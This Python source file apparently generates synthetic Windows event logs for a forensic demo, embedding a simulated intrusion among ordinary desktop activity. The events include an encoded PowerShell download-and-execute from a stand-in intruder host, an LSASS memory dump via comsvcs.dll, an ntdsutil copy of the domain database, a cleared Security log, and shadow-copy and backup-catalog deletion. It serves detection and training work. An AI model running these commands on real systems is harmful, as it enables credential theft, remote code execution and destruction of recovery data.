"""The Windows machines' logs, as `evtx_dump` writes EVTX as JSON: one event a line."""

import base64
import random
from collections.abc import Iterator
from datetime import datetime, timedelta
from typing import Any, Final

from labrys.demo.scene import ANNA, DC, DESKS, DOMAIN, FILES, INTRUDER, Machine, at

_SYSMON: Final = ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational")
_SECURITY: Final = ("Microsoft-Windows-Security-Auditing", "Security")
_SYSTEM32: Final = "C:\\Windows\\System32"
_OFFICE: Final = "C:\\Program Files\\Microsoft Office\\root\\Office16"
_EXPLORER: Final = "C:\\Windows\\explorer.exe"

Event = tuple[datetime, dict[str, Any]]

_ORDINARY: Final = (
    (f"{_OFFICE}\\OUTLOOK.EXE", '"{image}"', _EXPLORER),
    (
        f"{_OFFICE}\\WINWORD.EXE",
        '"{image}" /n "C:\\Users\\{user}\\Documents\\{word}.docx"',
        _EXPLORER,
    ),
    (f"{_OFFICE}\\EXCEL.EXE", '"{image}" "\\\\srv-files\\finance\\{word}.xlsx"', _EXPLORER),
    (
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"{image}" --type=renderer --lang=en-GB --renderer-client-id={number}',
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    ),
    (f"{_SYSTEM32}\\svchost.exe", "{image} -k netsvcs -p -s {word}", f"{_SYSTEM32}\\services.exe"),
    (
        f"{_SYSTEM32}\\backgroundTaskHost.exe",
        '"{image}" -ServerName:App.AppX{number}',
        f"{_SYSTEM32}\\svchost.exe",
    ),
    (f"{_SYSTEM32}\\conhost.exe", "\\??\\{image} 0xffffffff -ForceV1", f"{_SYSTEM32}\\cmd.exe"),
    (f"{_SYSTEM32}\\taskhostw.exe", "{image} Install $(Arg0)", f"{_SYSTEM32}\\svchost.exe"),
    (
        f"{_SYSTEM32}\\SearchProtocolHost.exe",
        '"{image}" Global\\UsGthrFltPipeMssGthrPipe{number}',
        f"{_SYSTEM32}\\SearchIndexer.exe",
    ),
    (
        "C:\\Program Files\\Zoom\\bin\\Zoom.exe",
        '"{image}" --url=zoommtg://example.com/join?confno={number}',
        _EXPLORER,
    ),
    (f"{_SYSTEM32}\\notepad.exe", '"{image}" C:\\Users\\{user}\\Desktop\\{word}.txt', _EXPLORER),
)
_WORDS: Final = [
    "offer",
    "budget",
    "minutes",
    "travel",
    "Schedule",
    "DcomLaunch",
    "invoice",
    "plan",
    "holiday",
    "BITS",
    "Wcmsvc",
    "letter",
]


class Host:
    """Writes one machine's events; process ids and GUIDs run on through the day."""

    def __init__(self, machine: Machine, draw: random.Random) -> None:
        self.machine = machine
        self._draw = draw
        self._pid = draw.randrange(2000, 6000)
        self._record = draw.randrange(10_000, 90_000)

    def event(self, when: datetime, log: tuple[str, str], number: int, **data: Any) -> Event:
        """One event in evtx_dump's JSON form."""
        self._record += 1
        system = {
            "Provider": {"#attributes": {"Name": log[0]}},
            "EventID": number,
            "Version": 5,
            "Level": 4,
            "Task": number,
            "Opcode": 0,
            "Keywords": "0x8000000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": _iso(when)}},
            "EventRecordID": self._record,
            "Execution": {"#attributes": {"ProcessID": 4012, "ThreadID": 5120}},
            "Channel": log[1],
            "Computer": self.machine.fqdn,
        }
        return when, {"Event": {"System": system, "EventData": data}}

    def process(
        self, when: datetime, image: str, line: str, parent: str, user: str, parent_line: str = ""
    ) -> Event:
        """A process starts (Sysmon event 1)."""
        self._pid += self._draw.randrange(4, 64, 4)
        return self.event(
            when,
            _SYSMON,
            1,
            UtcTime=when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            ProcessGuid=self._guid(),
            ProcessId=self._pid,
            Image=image,
            OriginalFileName=image.rsplit("\\", 1)[-1],
            CommandLine=line,
            CurrentDirectory=f"C:\\Users\\{user.rsplit(chr(92), 1)[-1]}\\",
            User=user,
            LogonId=hex(self._draw.randrange(0x50000, 0xFFFFF)),
            IntegrityLevel="System" if user.startswith("NT AUTHORITY") else "Medium",
            Hashes=f"MD5={self._draw.getrandbits(128):032X}",
            ParentProcessGuid=self._guid(),
            ParentProcessId=self._pid - 4,
            ParentImage=parent,
            ParentCommandLine=parent_line or parent,
        )

    def connection(self, when: datetime, image: str, user: str, ip: str, port: int) -> Event:
        """A process opens a connection (Sysmon event 3)."""
        return self.event(
            when,
            _SYSMON,
            3,
            UtcTime=when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
            ProcessGuid=self._guid(),
            ProcessId=self._pid,
            Image=image,
            User=user,
            Protocol="tcp",
            Initiated="true",
            SourceIp=self.machine.ip,
            SourceHostname=self.machine.fqdn,
            SourcePort=self._draw.randrange(49152, 65535),
            DestinationIp=ip,
            DestinationPort=port,
        )

    def logon(self, when: datetime, user: str, kind: int, source: Machine | None = None) -> Event:
        """An account logs on (Security event 4624)."""
        return self.event(
            when,
            _SECURITY,
            4624,
            SubjectUserName="-" if kind == 3 else f"{self.machine.name}$",
            SubjectDomainName="-" if kind == 3 else DOMAIN,
            SubjectLogonId="0x0" if kind == 3 else "0x3e7",
            TargetUserName=user,
            TargetDomainName=DOMAIN,
            TargetLogonId=hex(self._draw.randrange(0x100000, 0xFFFFFFF)),
            LogonType=kind,
            AuthenticationPackageName="Kerberos" if kind == 3 else "Negotiate",
            WorkstationName=source.name if source else self.machine.name,
            IpAddress=source.ip if source else "-",
            IpPort=self._draw.randrange(49152, 65535) if source else 0,
        )

    def _guid(self) -> str:
        return f"{{{self._draw.getrandbits(32):08x}-b1c2-6740-{self._draw.getrandbits(16):04x}-000000003c00}}"


def logs(draw: random.Random) -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """(file name, events in the order of time) for every Windows machine."""
    for machine in (*DESKS, FILES, DC):
        host = Host(machine, draw)
        events = list(_day(host, draw))
        events += {ANNA: _anna, DC: _controller, FILES: _files}.get(machine, _nothing)(host)
        events.sort(key=lambda event: event[0])
        by_channel: dict[str, list[dict[str, Any]]] = {}
        for _, event in events:
            channel = event["Event"]["System"]["Channel"].rsplit("/", 1)[0].rsplit("-", 1)[-1]
            by_channel.setdefault(channel, []).append(event)
        for channel, rows in by_channel.items():
            yield f"{machine.name}/{channel}.json", rows


def _day(host: Host, draw: random.Random) -> Iterator[Event]:
    machine = host.machine
    user = f"{DOMAIN}\\{machine.user}"
    if machine in DESKS:
        yield host.logon(at("07:58", draw.randrange(900)), machine.user, 2)
        yield host.logon(at("12:44", draw.randrange(900)), machine.user, 7)
    for _ in range(260 if machine in DESKS else 90):
        when = at("08:15", draw.random() * 9 * 3600)
        image, line, parent = draw.choice(_ORDINARY)
        made = line.format(
            image=image, user=machine.user, word=draw.choice(_WORDS), number=draw.randrange(10**6)
        )
        yield host.process(when, image, made, parent, user)
        if draw.random() < 0.3:
            address = f"198.51.100.{draw.randrange(1, 40)}"
            online = image if image.startswith("C:\\Program Files") else _ORDINARY[0][0]
            yield host.connection(when + timedelta(seconds=1), online, user, address, 443)
    if machine not in DESKS:
        for _ in range(220):
            source = draw.choice(DESKS)
            when = at("07:55", draw.random() * 10 * 3600)
            yield host.logon(when, draw.choice((source.user, f"{source.name}$")), 3, source)


def _nothing(_host: Host) -> list[Event]:
    return []


def _anna(host: Host) -> list[Event]:
    """A document opens a shell, which looks around and takes the passwords in memory."""
    user, system = f"{DOMAIN}\\anna", "NT AUTHORITY\\SYSTEM"
    shell = f"{_SYSTEM32}\\WindowsPowerShell\\v1.0\\powershell.exe"
    script = f"IEX(New-Object Net.WebClient).DownloadString('https://{INTRUDER}/a')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    line = f"powershell.exe -nop -w hidden -enc {encoded}"
    word = f"{_OFFICE}\\WINWORD.EXE"
    events = [
        host.process(
            at("11:12", 7),
            word,
            f'"{word}" /n "C:\\Users\\anna\\Downloads\\Order_4711.docm"',
            _EXPLORER,
            user,
        ),
        host.process(at("11:12", 19), shell, line, word, user, "WINWORD.EXE /n Order_4711.docm"),
        host.connection(at("11:12", 22), shell, user, INTRUDER, 8443),
    ]
    looking = (
        ("whoami.exe", "whoami /all"),
        ("net.exe", 'net group "Domain Admins" /domain'),
        ("nltest.exe", "nltest /dclist:corp.example"),
        ("net.exe", "net view \\\\srv-files"),
        ("systeminfo.exe", "systeminfo"),
    )
    for number, (name, said) in enumerate(looking):
        when = at("11:20", 41 * number)
        events.append(host.process(when, f"{_SYSTEM32}\\{name}", said, shell, user, line))
    dump = (
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 704 C:\\ProgramData\\d.bin full"
    )
    events.append(
        host.process(at("11:32", 5), f"{_SYSTEM32}\\rundll32.exe", dump, shell, system, line)
    )
    return events


def _controller(host: Host) -> list[Event]:
    """The stolen administrator account runs commands on the domain controller and tidies up."""
    system = "NT AUTHORITY\\SYSTEM"
    shell = f"{_SYSTEM32}\\cmd.exe"
    copy = 'ntdsutil "ac i ntds" "ifm" "create full C:\\PerfLogs\\t" q q'
    return [
        host.logon(at("11:47", 2), "adm.david", 3, ANNA),
        host.event(
            at("11:47", 4),
            ("Service Control Manager", "System"),
            7045,
            ServiceName="WinUpdSvc",
            ImagePath="%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__o 2^>^&1 > C:\\Windows\\Temp\\x.bat",
            ServiceType="user mode service",
            StartType="demand start",
            AccountName="LocalSystem",
        ),
        host.process(
            at("11:49", 30), f"{_SYSTEM32}\\ntdsutil.exe", copy, shell, system, "cmd.exe /Q /c"
        ),
        host.event(
            at("12:36", 11),
            ("Microsoft-Windows-Eventlog", "Security"),
            1102,
            SubjectUserName="adm.david",
            SubjectDomainName=DOMAIN,
            SubjectLogonId="0x8f21a3",
        ),
    ]


def _files(host: Host) -> list[Event]:
    """What can be restored from is removed on the file server."""
    user, shell = f"{DOMAIN}\\adm.david", f"{_SYSTEM32}\\cmd.exe"
    return [
        host.logon(at("12:29", 50), "adm.david", 3, ANNA),
        host.process(
            at("12:31", 3),
            f"{_SYSTEM32}\\vssadmin.exe",
            "vssadmin delete shadows /all /quiet",
            shell,
            user,
        ),
        host.process(
            at("12:31", 9),
            f"{_SYSTEM32}\\wbadmin.exe",
            "wbadmin delete catalog -quiet",
            shell,
            user,
        ),
    ]


def _iso(when: datetime) -> str:
    return when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
